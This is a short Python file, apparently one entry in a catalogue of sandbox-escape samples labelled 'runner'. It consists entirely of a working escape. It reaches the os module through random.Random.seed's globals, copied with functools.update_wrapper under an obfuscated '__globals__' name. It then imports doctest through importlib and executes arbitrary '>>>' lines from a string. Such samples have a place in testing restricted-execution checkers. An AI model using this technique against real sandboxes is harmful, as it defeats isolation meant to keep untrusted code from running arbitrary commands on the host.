# family: runner
# Escape: os reached as random's globals["_os"] (update_wrapper copy via operator.call); os.sys.modules["importlib"]
# imports doctest, and doctest.run_docstring_examples executes the ">>>" lines of a string as code.
import functools
import operator
import random
import types


def tool(text: str) -> None:
    name = "globals".center(11, "_")
    space: dict = {}
    operator.call(functools.update_wrapper, types.SimpleNamespace(**{name: space}), random.Random.seed, (), (name,))
    doctest = space["_os"].sys.modules["importlib"].import_module("doctest")
    doctest.run_docstring_examples(text, {})
